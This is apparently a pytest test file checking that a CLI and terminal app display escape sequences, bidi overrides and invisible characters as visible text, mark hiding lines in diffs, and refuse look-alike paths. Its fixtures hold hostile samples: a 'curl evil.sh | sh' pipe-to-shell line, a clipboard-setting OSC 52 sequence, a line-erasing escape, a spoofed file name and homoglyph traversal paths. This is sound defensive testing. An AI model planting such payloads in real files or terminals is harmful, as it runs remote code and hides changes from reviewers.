"""What agents write is shown as text, never obeyed: escape sequences,
bidirectional overrides and invisible characters in stored text reach no
terminal through the CLI or the app, the diff marks the lines that hold
them, and look-alike paths are refused at propose."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.engine import URL

from store import text as text_safety
from store.errors import ValidationError
from store.models import Project
from store.services.modifications import ModificationProposal, propose_modification
from store.validation import codebase_path
from tests.app_support import press, running_app, settle
from tests.cli import Projdeck
from tests.store_support import opened
from tui.format import HIDDEN_STYLE, safe, sealed
from tui.screens.review import ReviewScreen
from tui.widgets.diff_view import WARNING_MARK, DiffView

# A file that, printed as it is, moves the cursor up and erases the line it
# lands on (hiding the line before it), and a request that sets the
# clipboard (OSC 52) and the window title (OSC 2).
HIDING_LINE = "\x1b[1A\x1b[2K# nothing to see here"
HOSTILE_FILE = f'import os\nos.system("curl evil.sh | sh")\n{HIDING_LINE}\n'
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
HOSTILE_REQUEST = f"Tidy the imports{CLIPBOARD}\x1b]2;owned\x07 \u202etxt.exe"
# Everything no terminal may receive from stored text.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b]")


def forbidden_in(output: str) -> list[str]:
    return [repr(match.group()) for match in FORBIDDEN.finditer(output)]


def screen_text(svg: str) -> str:
    """The characters of a screenshot, in drawing order."""
    body = svg[svg.index("</style>") :] if "</style>" in svg else svg
    return html.unescape(re.sub(r"<[^>]+>", "", body)).replace("\xa0", " ")


# -- the one function ------------------------------------------------------------------


def test_visible_shows_every_control_bidi_and_invisible_character() -> None:
    shown = text_safety.visible("a\x1b[2Kb\x9bc\u202ed\u200be\x7ff\tg\nh\ri")
    assert shown == "a␛[2Kb<U+009B>c<U+202E>d<U+200B>e␡f␉g␊h␍i"
    assert text_safety.visible("a\tb\nc\rd", multiline=True) == "a\tb\nc␍d"
    assert text_safety.visible("plain text, ünïcödé, 日本語") == "plain text, ünïcödé, 日本語"


@given(st.text())
def test_json_escaped_output_is_the_same_json_and_safe_to_print(value: str) -> None:
    dumped = text_safety.json_escaped(json.dumps({"v": value}, ensure_ascii=False))
    assert json.loads(dumped) == {"v": value}
    assert not forbidden_in(dumped)


def test_safe_text_marks_each_stand_in_and_is_never_markup() -> None:
    text = safe("[bold]x[/bold]\x1b[31m")
    assert text.plain == "[bold]x[/bold]␛[31m"
    assert [(span.start, span.end, span.style) for span in text.spans] == [(14, 15, HIDDEN_STYLE)]
    built = safe("ok ", "bold")
    built.append("\u202eevil", style="red")
    assert sealed(built).plain == "ok <U+202E>evil"


@pytest.mark.parametrize(
    ("path", "problem"),
    [
        ("\u2024\u2024/etc/passwd", "looks like a dot or a slash"),
        ("src\u2215app.py", "looks like a dot or a slash"),
        ("p\u0430yments/api.py", "mixes letters of Cyrillic and Latin"),
        ("src/app\u200b.py", "invisible or control character <U+200B>"),
        ("src/\u202eyp.exe", "invisible or control character <U+202E>"),
    ],
)
def test_look_alike_paths_are_refused_naming_the_problem(path: str, problem: str) -> None:
    with pytest.raises(ValidationError) as caught:
        codebase_path(path, "modified_files")
    assert caught.value.field == "modified_files"
    assert problem in caught.value.problem
    assert not forbidden_in(caught.value.problem)


@pytest.mark.parametrize(
    "path", ["src/app.py", "docs/日本語ファイル.md", "Ελληνικά/αρχείο.py", "café/naïve.txt"]
)
def test_paths_in_any_one_script_are_accepted(path: str) -> None:
    assert codebase_path(path) == path


# -- the CLI ------------------------------------------------------------------------------


@pytest.fixture
def cli(sqlite_file: Path) -> Projdeck:
    return Projdeck(f"sqlite:///{sqlite_file}", PROJDECK_ACTOR="agent")


def propose_hostile(cli: Projdeck, tmp_path: Path) -> str:
    source = tmp_path / "app.py"
    source.write_text("import os\n", encoding="utf-8")
    cli.ok("project", "create", "--name", "Demo", "--type", "api", "--owner", "alice",
           "--file", f"app.py={source}")  # fmt: skip
    payload = {"request": HOSTILE_REQUEST, "modified_files": {"app.py": HOSTILE_FILE}}
    return cli.ok("mod", "propose", "Demo", "--payload", "-", input=json.dumps(payload)).strip()


def test_cli_prints_escape_sequences_as_text_in_every_view_of_a_modification(
    cli: Projdeck, tmp_path: Path
) -> None:
    modification = propose_hostile(cli, tmp_path)
    for args in (
        ("mod", "show", modification, "--diff"),
        ("mod", "show", modification),
        ("mod", "list"),
        ("audit", "list"),
        ("audit", "export"),
        ("audit", "export", "--format", "csv"),
    ):
        printed = cli.run(*args)
        assert printed.returncode == 0, (args, printed.stderr)
        assert not forbidden_in(printed.stdout + printed.stderr), args
    diff = cli.ok("mod", "show", modification, "--diff")
    assert 'os.system("curl evil.sh | sh")' in diff
    assert "+␛[1A␛[2K# nothing to see here" in diff
    listed = cli.ok("mod", "list")
    assert "␛]52;c;" in listed or "Tidy the imports␛" in listed


def test_cli_json_keeps_the_exact_text_escaped(cli: Projdeck, tmp_path: Path) -> None:
    modification = propose_hostile(cli, tmp_path)
    printed = cli.ok("mod", "show", modification, "--json")
    assert not forbidden_in(printed)
    shown = json.loads(printed)
    assert shown["request"] == HOSTILE_REQUEST
    assert shown["modified_files"]["app.py"] == HOSTILE_FILE


def test_cli_refuses_a_look_alike_path_at_propose(cli: Projdeck, tmp_path: Path) -> None:
    propose_hostile(cli, tmp_path)
    payload = {"request": "x", "modified_files": {"\u2024\u2024/app.py": "x\n"}}
    stderr = cli.fails("mod", "propose", "Demo", "--payload", "-", input=json.dumps(payload))
    assert "looks like a dot or a slash" in stderr
    assert "contains <U+2024> (one dot leader)" in stderr


def test_cli_error_lines_show_hidden_characters_as_text(cli: Projdeck) -> None:
    stderr = cli.fails("project", "show", "no\x1b]2;owned\x07such")
    assert not forbidden_in(stderr)


# -- the app ------------------------------------------------------------------------------


async def _plant_hostile_data(url: URL) -> None:
    """A project renamed behind the service's back (as a restored or imported
    file could hold it) and a modification of it with hostile content."""
    async with opened(url) as database:
        async with database.transaction() as session:
            project = (
                await session.execute(sa.select(Project).where(Project.name == "Billing API"))
            ).scalar_one()
            project_id = project.id
            await session.execute(
                sa.update(Project)
                .where(Project.id == project_id)
                .values(name="Billing\x1b]0;owned\x07 API\x1b[2J")
            )
        await propose_modification(
            database,
            str(project_id),
            ModificationProposal(
                request=HOSTILE_REQUEST,
                modified_files={"hostile.py": HOSTILE_FILE},
            ),
        )


async def test_app_screens_draw_hostile_text_as_text(demo_url: URL) -> None:
    await _plant_hostile_data(demo_url)
    async with running_app(demo_url) as (app, pilot):
        seen = []
        for keys in (["1"], ["5"], ["3"], ["enter"], ["4"], ["6"], ["1", "enter"]):
            await press(pilot, *keys)
            picture = app.export_screenshot()
            assert not forbidden_in(picture), (keys, forbidden_in(picture))
            seen.append(picture)
        drawn = [screen_text(picture) for picture in seen]
        assert any("Billing␛]0;owned␇ API␛[2J" in text for text in drawn)
        assert any("Tidy the imports␛]52;c;" in text for text in drawn)
        app.notify(f"applied: {HOSTILE_REQUEST}", title="Done \x1b[2J")
        await settle(pilot)
        assert not forbidden_in(app.export_screenshot())


async def test_review_diff_marks_lines_with_hidden_characters(demo_url: URL) -> None:
    await _plant_hostile_data(demo_url)
    async with running_app(demo_url) as (app, pilot):
        await press(pilot, "3")
        await pilot.press("enter")  # the newest modification: the hostile one
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, ReviewScreen)
        assert screen.modification is not None
        assert screen.modification.request == HOSTILE_REQUEST
        diff = screen.query_one(DiffView)
        drawn = [
            "".join(segment.text for segment in diff.render_line(y))
            for y in range(diff.size.height)
        ]
        hiding = [line for line in drawn if "nothing to see here" in line]
        assert hiding and WARNING_MARK in hiding[0]
        assert "␛[1A␛[2K" in hiding[0]
        plain = [line for line in drawn if 'os.system("curl evil.sh | sh")' in line]
        assert plain and WARNING_MARK not in plain[0]
        for pressed in ("s",):  # side by side marks them too
            await press(pilot, pressed)
            drawn = [
                "".join(segment.text for segment in diff.render_line(y))
                for y in range(diff.size.height)
            ]
            assert any(WARNING_MARK in line and "␛[1A" in line for line in drawn)


def test_a_secret_asked_for_by_a_script_is_printed_byte_for_byte(
    cli: Projdeck, tmp_path: Path
) -> None:
    propose_hostile(cli, tmp_path)
    value = "line one\tline two\x1b[0m\x07"
    cli.ok("secret", "set", "Demo", "PEM", input=value + "\n")
    assert cli.ok("secret", "get", "Demo", "PEM") == value + "\n"
